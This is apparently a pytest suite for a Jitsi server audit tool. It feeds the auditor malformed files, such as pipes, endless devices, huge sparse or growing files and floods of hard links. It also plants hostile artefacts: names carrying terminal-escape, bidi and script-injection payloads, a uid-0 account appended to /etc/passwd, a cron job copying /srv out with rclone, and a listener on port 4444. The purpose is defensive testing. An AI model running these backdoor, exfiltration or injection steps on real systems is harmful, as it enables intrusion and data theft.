"""A server that is a mess: the audit ends soon, what is no file of settings is unknown, and no name
there acts on whoever reads the report. Each test leaves the server as it was."""

from pathlib import Path

import pytest

from tests.lab.conftest import Site
from tests.lab.hostile import as_root, audit, changed, harmful, unharmed

NIGHTLY = pytest.mark.nightly

# -- files that are none ----------------------------------------------------------------------

#: A place that the collector reads, and a control that rests on it alone.
PLACES = {
    "/etc/prosody/prosody.cfg.lua": "prosody-federation",
    "/etc/jitsi/jicofo/jicofo.conf": "jicofo-visitors",
    "/etc/jitsi/videobridge/jvb.conf": "videobridge-stun",
    "/etc/turnserver.conf": "coturn-verbose-log",
    "/etc/jitsi/meet/meet.example.test-config.js": "web-local-recording",
    "/etc/nginx/nginx.conf": "nginx-foreign-proxy",
    "/etc/crontab": "host-upload-jobs",
}
#: Each makes what is none at ``$1``.
KINDS = {
    "pipe": "mkfifo $1",
    "socket": "/usr/bin/python3 -c 'import socket, sys; "
    "socket.socket(socket.AF_UNIX).bind(sys.argv[1])' $1",
    "link to itself": "ln -s ${1##*/} $1",
    "endless device": "ln -s /dev/zero $1",
    "full device": "ln -s /dev/full $1",
    "folder": "mkdir $1",
    "10 GiB of nothing": "truncate -s 10G $1",
    "binary": "head -c 300000 /dev/urandom >$1",
    "a line of 5 MB": "head -c 5000000 /dev/zero | tr '\\0' x >$1",
}
_ASIDE = "mkdir -p /var/tmp/aside; for one; do [ ! -e $one ] || mv $one {kept}; done"
_BACK = "for one; do rm -rf $one; [ ! -e {kept} ] || mv {kept} $one; done; rmdir /var/tmp/aside"
_KEPT = "/var/tmp/aside/$(echo $one | tr / %)"


def replaced(site: Site, folder: Path, kinds: dict[str, str]) -> None:
    """Audit with each place made what is none, by its own script."""
    try:
        as_root(site, _ASIDE.format(kept=_KEPT), arguments=tuple(kinds))
        for place, script in kinds.items():
            as_root(site, script, arguments=(place,))
        found = audit(site, folder)
    finally:
        as_root(site, _BACK.format(kept=_KEPT), arguments=tuple(kinds))
    unharmed(found, site, folder)
    assert found.sentence == ""
    assert {c: found.statuses[c] for c in PLACES.values()} == dict.fromkeys(
        PLACES.values(), "unknown"
    )
    assert found.exit_code in (1, 3)


def test_files_that_are_none_each_of_another_kind(site: Site, tmp_path: Path) -> None:
    replaced(site, tmp_path, dict(zip(PLACES, KINDS.values(), strict=False)))


@NIGHTLY
@pytest.mark.parametrize("kind", KINDS)
def test_files_that_are_none(site: Site, tmp_path: Path, kind: str) -> None:
    replaced(site, tmp_path, dict.fromkeys(PLACES, KINDS[kind]))


@NIGHTLY
def test_files_that_grow_while_they_are_read(site: Site, tmp_path: Path) -> None:
    grow = (
        "while [ $(stat -c %s $1) -lt 300000000 ]; do yes '# and on' | head -c 1000000; done >>$1"
    )
    start = f"systemd-run -q --unit=grow-$(echo $1 | tr -c 'a-z\\n' -) sh -c {grow!r} sh $1"
    try:
        replaced(site, tmp_path, dict.fromkeys(PLACES, f"head -c 3000000 /dev/zero >$1; {start}"))
    finally:
        as_root(site, "systemctl stop 'grow-*'")


_CROWD = r"""
import os, sys
def crowd(folder, count, name):
    os.makedirs(folder, exist_ok=True)
    for number in range(count):
        first = os.path.join(folder, name % (number - number % 50000))
        here = os.path.join(folder, name % number)
        if number % 50000 == 0:
            open(here, "xb").close()
        else:
            os.link(first, here)
crowd("/var/lib/crowd", 300000, "%06d.bin")
crowd("/etc/prosody/conf.d", 25000, "zz%06d.cfg.lua")
crowd("/tmp/recordings", 25000, "%06d.txt")
"""
_DISPERSED = (
    "rm -rf /var/lib/crowd /tmp/recordings; find /etc/prosody/conf.d -name 'zz*.cfg.lua' -delete"
)


@NIGHTLY
def test_more_files_than_can_be_looked_at(site: Site, tmp_path: Path) -> None:
    with changed(site, "/usr/bin/python3 -", _DISPERSED, _CROWD.encode()):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    named = ("host-stray-recordings", "prosody-federation", "host-recordings")
    assert {found.statuses[name] for name in named} == {"unknown"}


@NIGHTLY
def test_a_recording_of_10_gib_is_told_by_its_first_bytes(site: Site, tmp_path: Path) -> None:
    make = "printf '\\0\\0\\0\\040ftypisom' >/srv/hole.bin; truncate -s 10G /srv/hole.bin"
    with changed(site, make, "rm /srv/hole.bin"):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    assert (found.exit_code, found.statuses["host-stray-recordings"]) == (1, "fail")


# -- names that act on whoever reads them ------------------------------------------------------

_EVIL = (
    "\x1b]0;owned\x07\x1b[2J\u202egpj.<script>alert(1)</script>\u2066\u2028\r\nforged: all passes"
)
_PLANT = r"""
import ctypes, os, pathlib, socket, sys, time
evil = sys.argv[1]
os.makedirs("/srv/recordings", exist_ok=True)
media = b"\0\0\0 ftypisom" + bytes(400000)
for folder in ("/srv/recordings", "/home/admin"):
    pathlib.Path(folder, evil.replace("/", "_") + ".mp4").write_bytes(media)
with open("/etc/passwd", "a") as accounts:
    accounts.write(evil.replace("\r\n", "").replace(":", "") + ":x:0:0::/root:/bin/sh\n")
pathlib.Path("/etc/cron.d", "evil").write_text("* * * * * root rclone copy /srv x: # %s\n" % evil)
with open("/etc/jitsi/jicofo/jicofo.conf", "a") as conf:
    shown = "".join(sign for sign in evil if sign > " ")  # HOCON takes no control characters
    conf.write('jicofo.transcription.url-template = "wss://%s"\n' % shown)
pathlib.Path("/etc/systemd/system/jibri.service").write_text(
    "[Unit]\nDescription=%s\n[Service]\nExecStart=/bin/sleep 9999\n" % evil.split("\r")[0])
def apart(work):
    child = os.fork()
    if child == 0:
        os.setsid()
        for handle in (0, 1, 2):
            os.dup2(os.open(os.devnull, os.O_RDWR), handle)
        work()
    return child
def record():
    os.execv("/bin/sleep", ["java -jar /opt/jitsi/jibri/jibri.jar " + evil, "9999"])
def listen():
    ctypes.CDLL(None).prctl(15, b"\x1b[2J<b>\r\nf: x", 0, 0, 0)
    listening = socket.socket()
    listening.bind(("0.0.0.0", 4444))
    listening.listen()
    time.sleep(9999)
pathlib.Path("/var/tmp/pids").write_text("%d %d" % (apart(record), apart(listen)))
"""
_PLANTED = (
    "cp -a /etc/passwd /var/tmp/passwd; cp -a /etc/jitsi/jicofo/jicofo.conf /var/tmp/jicofo.conf; "
    "[ -e /srv/recordings ] || touch /var/tmp/no-recordings; "
    '/usr/bin/python3 - "$(cat /var/tmp/evil)"; systemctl daemon-reload; systemctl start jibri'
)
_UPROOTED = (
    "mv /var/tmp/passwd /etc/passwd; mv /var/tmp/jicofo.conf /etc/jitsi/jicofo/jicofo.conf; "
    "systemctl stop jibri; rm /etc/systemd/system/jibri.service; systemctl daemon-reload; "
    "kill $(cat /var/tmp/pids); "
    "rm -f /etc/cron.d/evil /var/tmp/evil /var/tmp/pids /home/admin/*.mp4 /srv/recordings/*.mp4; "
    "[ ! -e /var/tmp/no-recordings ] || rm -r /var/tmp/no-recordings /srv/recordings"
)


def test_names_that_act_on_whoever_reads_them(site: Site, tmp_path: Path) -> None:
    as_root(site, "cat >/var/tmp/evil", _EVIL.encode())
    with changed(site, _PLANTED, _UPROOTED, _PLANT.encode()):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    assert found.exit_code == 1
    failed = {name for name, status in found.statuses.items() if status == "fail"}
    assert {
        *("host-recorder", "host-recordings", "host-stray-recordings", "host-root-accounts"),
        *("host-listeners", "host-upload-jobs", "jicofo-transcription-url"),
    } <= failed
    shown = found.output["json"]
    assert shown.count("alert(1)") >= 5
    assert harmful(found.output) == []
